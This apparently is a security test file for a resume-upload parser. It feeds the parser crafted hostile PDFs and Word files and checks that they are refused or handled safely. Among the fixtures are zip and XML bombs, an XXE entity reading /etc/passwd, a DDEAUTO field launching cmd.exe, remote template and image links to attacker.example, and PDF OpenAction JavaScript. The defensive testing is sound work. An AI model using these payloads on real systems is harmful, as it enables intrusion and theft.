import { deflateRawSync, deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { strToU8, unzipSync, type Zippable, zipSync } from 'fflate'
import { afterAll, describe, expect, it } from 'vitest'
import { limitArrays } from '../src/reading/limit-arrays.ts'
import { notesOf } from '../src/reading/notes.ts'
import { readResume, stopReading } from '../src/reading/read-resume.ts'
import { readText } from '../src/reading/read-text.ts'
import type { ReadingOutcome } from '../src/reading/reading.ts'
import { kindOf } from '../src/reading/sniff.ts'
import { asDocx } from './support/resumes/as-docx.ts'
import { asPdf } from './support/resumes/as-pdf.ts'
import { asText } from './support/resumes/as-text.ts'
import { avery } from './support/resumes/people.ts'

afterAll(stopReading)

const MEGABYTE = 1024 * 1024

describe('a Word file that means harm', () => {
  it.each([
    ['a part that unfolds to 40 MB', () => word(' '.repeat(40 * MEGABYTE)), 'too-hard'],
    ['a part that claims to be small and unfolds to 100 MB', () => lying(100 * MEGABYTE), 'too-hard'],
    ['30 headers of 2 MB each', () => manyHeaders(30, 2 * MEGABYTE), 'too-hard'],
    [
      '10,000 parts',
      () => zip(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`word/${index}.xml`, '']))),
      'too-hard',
    ],
    ['100,000 levels', () => word(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`), 'too-hard'],
    ['entities that unfold', () => zip({ 'word/document.xml': BILLION_LAUGHS }), 'broken'],
    ['an entity that names a file', () => zip({ 'word/document.xml': NAMES_A_FILE }), 'broken'],
    [
      'a million characters in one line',
      () => word(`<w:p><w:r><w:t>${'word '.repeat(200_000)}</w:t></w:r></w:p>`),
      'too-long',
    ],
    [
      'a million attributes',
      () => word(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
      'empty',
    ],
    ['an element that is never closed', () => word('<w:p><w:r>'), 'broken'],
    ['a sign that is not XML', () => word('<w:p><w:r><w:t>\u0000</w:t></w:r></w:p>'), 'broken'],
    ['no body', () => zip({ 'word/other.xml': '<w/>' }), 'neither-pdf-nor-docx'],
    ['macros under another name', () => zip({ 'word/document.xml': '<w/>', 'word/VBAPROJECT.BIN': 'x' }), 'macros'],
  ])('has its answer: %s', async (_, file, why) => {
    expect(await readResume(await file())).toEqual({ unreadable: why })
  })
})

describe('a Word file that would do something to whoever opens it', () => {
  const related = (type: string, target: string, mode = 'External') => ({
    'word/_rels/settings.xml.rels': `<Relationships xmlns="r"><Relationship Id="r1" Type="${KIND}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  })
  const field = (...pieces: string[]) => ({
    'word/footnotes.xml': `<x:footnotes xmlns:x="w"><x:p><x:r><x:fldChar/></x:r>${pieces.map((piece) => `<x:r><x:instrText>${piece}</x:instrText></x:r>`).join('')}<x:r><x:fldChar/></x:r></x:p></x:footnotes>`,
  })

  it.each([
    ['a template from the web', related('attachedTemplate', 'https://attacker.example/t.dotm'), 'reaches-out'],
    ['a picture from the web', related('image', ' HTTP://attacker.example/p.png'), 'reaches-out'],
    ['an object by way of mhtml', related('image', 'mhtml:http://attacker.example/x!x-usc:y'), 'reaches-out'],
    ['a frame from a file server', related('frame', '\\\\attacker.example\\share\\x'), 'reaches-out'],
    ['a template from a file server', related('attachedTemplate', 'file://attacker.example/t.dotm'), 'reaches-out'],
    ['the same, escaped', related('attachedTemplate', 'file:///%5C%5Cattacker.example/t.dotm'), 'reaches-out'],
    ['a page within', related('aFChunk', 'chunk.html', 'Internal'), 'reaches-out'],
    ['a file within', { 'word/embeddings/oleObject1.bin': 'x' }, 'reaches-out'],
    ['a control', { 'word/activeX/activeX1.xml': '<x/>' }, 'reaches-out'],
    ['a field that runs a program', field(' DDEAUTO c:\\\\windows\\\\cmd.exe'), 'reaches-out'],
    ['such a field in pieces', field(' D', 'DE', ' cmd'), 'reaches-out'],
    [
      'macros by its types',
      { '[Content_Types].xml': '<Types><Override ContentType="a.macroEnabled.main+xml"/></Types>' },
      'macros',
    ],
  ])('is not taken: %s', async (_, parts: Record<string, string>, why) => {
    expect(await readResume(withParts(await asDocx(avery), parts))).toEqual({ unreadable: why })
  })

  it.each([
    [
      'the template that Word itself names',
      related('attachedTemplate', 'file:///C:\\Users\\Avery\\Resume%20wide.dotx'),
    ],
    ['a template beside it', related('attachedTemplate', 'Normal.dotm')],
    ['a link to press', related('hyperlink', 'https://www.linkedin.com/in/avery-sample')],
    ['a page number, and a word that begins alike', field(' PAGE ', 'ddead')],
  ])('is read where it only has %s', async (_, parts) => {
    expect(await readResume(withParts(await asDocx(avery), parts))).toHaveProperty('read')
  })
})

describe('a Word file that is not the same to every program', () => {
  const whole = async () =>
    Buffer.from(withParts(await asDocx(avery), { 'word/onePart000.bin': 'x', 'word/another000.bin': 'y' }))
  /** A name stands before its part and in the list. */
  const renamed = async (name: string, where: 'before' | 'in the list' | 'in both') => {
    const file = await whole()
    const places = [file.indexOf('word/onePart000'), file.lastIndexOf('word/onePart000')]
    for (const place of { before: places.slice(0, 1), 'in the list': places.slice(1), 'in both': places }[where])
      file.write(name, place, 'latin1')
    return file
  }

  it.each([
    ['a part that only its list names', () => renamed('word/unknown000.bin', 'in the list'), 'broken'],
    ['macros that both name', () => renamed('word/vbaProject.bin', 'in both'), 'macros'],
    ['macros that only its list names', () => renamed('word/vbaProject.bin', 'in the list'), 'macros'],
    ['macros that its list does not name', () => renamed('word/vbaProject.bin', 'before'), 'macros'],
    ['two parts of one name', () => renamed('word/another000.bin', 'in both'), 'broken'],
    ['two parts of one name in capitals', () => renamed('word/ANOTHER000.bin', 'in both'), 'broken'],
    ['two ends', async () => Buffer.concat([await whole(), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]), 'broken'],
    ['a list of nothing', async () => lying(10), 'broken'],
  ])('is not taken: %s', async (_, file, why) => {
    expect(await readResume(await file())).toEqual({ unreadable: why })
  })
})

describe('a PDF that means harm', () => {
  it.each([
    ['10,000 pages', () => pdfOf(Array.from({ length: 10_000 }, () => 'BT (Hello) Tj ET')), 'too-long'],
    ['a page that unfolds to 130 MB', () => pdfOf(['BT (Hello) Tj ET\n'.repeat(8 * MEGABYTE)]), 'too-hard'],
    [
      'a page of more text than fifty pages hold',
      () => pdfOf([`BT /F1 9 Tf ${`1 0 0 1 9 400 Tm (${'Hello my friend '.repeat(4)}) Tj `.repeat(6_000)} ET`]),
      'too-long',
    ],
    ['40 MB of signs that draw nothing', () => pdfOf(['q Q '.repeat(10 * MEGABYTE)]), 'too-hard'],
    ['nothing but its first line', async () => Buffer.from('%PDF-1.7\n'), 'broken'],
    ['a page tree that is its own child', async () => Buffer.from(OWN_CHILD), 'broken'],
  ])('has its answer: %s', async (_, file, why) => {
    expect(await readResume(await file())).toEqual({ unreadable: why })
  })

  it('is read without what it wants to run or to open', async () => {
    const outcome = await readResume(
      await pdfOf(['BT /F1 12 Tf (Hello) Tj ET'], '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    )
    expect(outcome).toHaveProperty('read')
  })
})

describe('a file in disguise', () => {
  it.each([
    ['a PDF after a little nothing', '\ufeff\r\n \0\0', 'pdf'],
    ['a text about PDFs', 'Begins with ', 'text'],
    ['a page of the web before a PDF', '<script>alert(1)</script>', 'neither-pdf-nor-docx'],
  ])('is taken for what it begins as: %s', async (_, before, kind) => {
    expect(kindOf(Buffer.from(`${before}%PDF-1.7\n`))).toBe(kind)
  })
})

describe('a file that was changed by chance', () => {
  const change = fc.record({
    at: fc.double({ min: 0, max: 0.999, noNaN: true }),
    bytes: fc.uint8Array({ minLength: 1, maxLength: 40 }),
    cut: fc.boolean(),
  })

  it.each([
    ['PDF', () => asPdf(avery)],
    ['Word', () => asDocx(avery)],
    ['text', async () => asText(avery)],
  ])('has an answer, and the next file is read: %s', async (_, make) => {
    const file = Buffer.from(await make())
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 6 }), async (changes) => {
        const changed = changes.reduce((bytes, { at, bytes: put, cut }) => {
          const place = Math.floor(at * bytes.length)
          return cut
            ? Buffer.concat([bytes.subarray(0, place), put])
            : Buffer.concat([bytes.subarray(0, place), put, bytes.subarray(place + put.length)])
        }, file)
        expectAnswer(await readResume(changed))
      }),
      { seed: 6, numRuns: 40 },
    )
    expect(await readResume(file)).toHaveProperty('read')
  })

  it('has an answer when what was changed is within the parts of a Word file', async () => {
    const parts = unzipSync(await asDocx(avery))
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 3 }), async (changes) => {
        const xml = changes.reduce((bytes, { at, bytes: put }) => {
          const place = Math.floor(at * bytes.length)
          return Buffer.concat([bytes.subarray(0, place), put, bytes.subarray(place)])
        }, Buffer.from(parts['word/document.xml']!))
        expectAnswer(await readResume(zipSync({ ...parts, 'word/document.xml': new Uint8Array(xml) })))
      }),
      { seed: 6, numRuns: 25 },
    )
  })

  it('has an answer when it is nothing but chance', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('%PDF-1.4\n', 'PK\x03\x04', ''),
        fc.uint8Array({ maxLength: 2_000 }),
        async (start, rest) => {
          expectAnswer(await readResume(Buffer.concat([Buffer.from(start, 'latin1'), rest])))
        },
      ),
      { seed: 6, numRuns: 50 },
    )
  })
})

describe('a text that is slow to search', () => {
  it.each([
    ['letters', 'a'],
    ['an address that never ends', 'a@a.'],
    ['digits', '1'],
    ['a telephone number that never ends', '+1 (2) '],
    ['dates', '2015 - '],
    ['months', 'sept. '],
    ['months and spaces', 'may     '],
    ['names of towns', 'Aa Bb '],
    ['names of towns and points', "A.'"],
    ['single letters', 'A B '],
    ['addresses of LinkedIn', 'linkedin.com/in/a-'],
    ['hyphens', '-'],
    ['spaces', ' '],
    ['line ends', '\n'],
    ['bullets', '• '],
    ['marks upon marks', 'a\u0301\u0301'],
    ['emoji', '👩‍👩‍👧'],
    ['halves of credentials', 'NE-B '],
  ])('is searched in little time, in one line and in many: %s', (_, piece) => {
    const long = piece.repeat(Math.floor(199_000 / piece.length))
    const lines = Array.from({ length: 199_000 / 200 }, () =>
      piece.repeat(Math.ceil(190 / piece.length)).slice(0, 190),
    ).join('\n')

    const begun = process.cpuUsage()
    for (const text of [long, lines]) notesOf(readText(Buffer.from(text)))
    // Of the processor, so that a busy machine does not count; what searches each place from each place takes minutes.
    expect(process.cpuUsage(begun).user / 1e6).toBeLessThan(5)
  })

  it('is not searched when it is longer than fifty pages', async () => {
    expect(await readResume(Buffer.alloc(5 * MEGABYTE, 'a'))).toEqual({ unreadable: 'too-long' })
  })
})

describe('the reader', () => {
  it('lets no array grow beyond what one file may have', () => {
    const before = Uint8Array
    try {
      const wasRefused = limitArrays(1_000)
      expect(() => new Uint8Array(1_001)).toThrow(RangeError)
      expect([wasRefused(), wasRefused()]).toEqual([true, false])
      expect(new Uint8Array(1_000)).toBeInstanceOf(before)
      expect(Buffer.alloc(2)).toBeInstanceOf(Uint8Array)
      expect(new Uint8Array([1, 2]).subarray(1)).toEqual(new before([2]))
    } finally {
      globalThis.Uint8Array = before
    }
  })

  it('keeps the memory flat over 60 files, harmful ones among them', async () => {
    const [pdf, docx, bomb] = [await asPdf(avery), await asDocx(avery), await lying(17 * MEGABYTE)]
    const files = (count: number) => Array.from({ length: count }, (_, index) => [pdf, docx, bomb][index % 3]!)
    await Promise.all(files(24).map(readResume))
    const before = process.memoryUsage().rss

    await Promise.all(files(60).map(readResume))

    expect((process.memoryUsage().rss - before) / MEGABYTE).toBeLessThan(120)
  }, 90_000)
})

function expectAnswer(outcome: ReadingOutcome): void {
  if ('read' in outcome) expect(outcome.read.notes.length).toBeGreaterThan(0)
  else
    expect([
      'broken',
      'too-hard',
      'too-long',
      'encrypted',
      'neither-pdf-nor-docx',
      'empty',
      'macros',
      'reaches-out',
    ]).toContain(outcome.unreadable)
}

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]><w>&c;</w>`
const NAMES_A_FILE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'

const zip = async (parts: Readonly<Record<string, string>>): Promise<Uint8Array> =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])) as Zippable, {
    level: 6,
  })

const KIND = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const withParts = (docx: Uint8Array, parts: Readonly<Record<string, string>>): Uint8Array =>
  zipSync({
    ...unzipSync(docx),
    ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
  })

const word = (body: string) =>
  zip({ 'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>` })

const manyHeaders = (count: number, bytes: number) =>
  zip({
    'word/document.xml': '<w/>',
    ...Object.fromEntries(
      Array.from({ length: count }, (_, index) => [`word/header${index}.xml`, `<w>${' '.repeat(bytes)}</w>`]),
    ),
  })

/** The body says that it holds ten bytes. */
async function lying(bytes: number): Promise<Uint8Array> {
  const content = deflateRawSync(Buffer.alloc(bytes, ' '))
  const name = Buffer.from('word/document.xml')
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt32LE(10, 22)
  head.writeUInt16LE(name.length, 26)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  return Buffer.concat([head, name, content, end])
}

/** A PDF of such pages, each packed; where things stand in it, a reader finds by itself. */
async function pdfOf(pages: readonly string[], catalogue = ''): Promise<Uint8Array> {
  const packed = new Map<string, Buffer>()
  const content = (page: string) => packed.get(page) ?? packed.set(page, deflateSync(page, { level: 1 })).get(page)!
  const ids = pages.map((_, index) => 10 + index * 2)
  const parts: (string | Buffer)[] = [
    '%PDF-1.7\n',
    `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalogue} >>\nendobj\n`,
    `2 0 obj\n<< /Type /Pages /Count ${pages.length} /Kids [${ids.map((id) => `${id} 0 R`).join(' ')}] >>\nendobj\n`,
    '3 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj\n',
    ...pages.flatMap((page, index) => [
      `${ids[index]} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F1 3 0 R >> >> /Contents ${ids[index]! + 1} 0 R >>\nendobj\n`,
      `${ids[index]! + 1} 0 obj\n<< /Filter /FlateDecode /Length ${content(page).length} >>\nstream\n`,
      content(page),
      '\nendstream\nendobj\n',
    ]),
    'trailer\n<< /Root 1 0 R >>\n%%EOF\n',
  ]
  return Buffer.concat(parts.map((part) => Buffer.from(part)))
}

const OWN_CHILD =
  '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 1 /Kids [2 0 R] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'
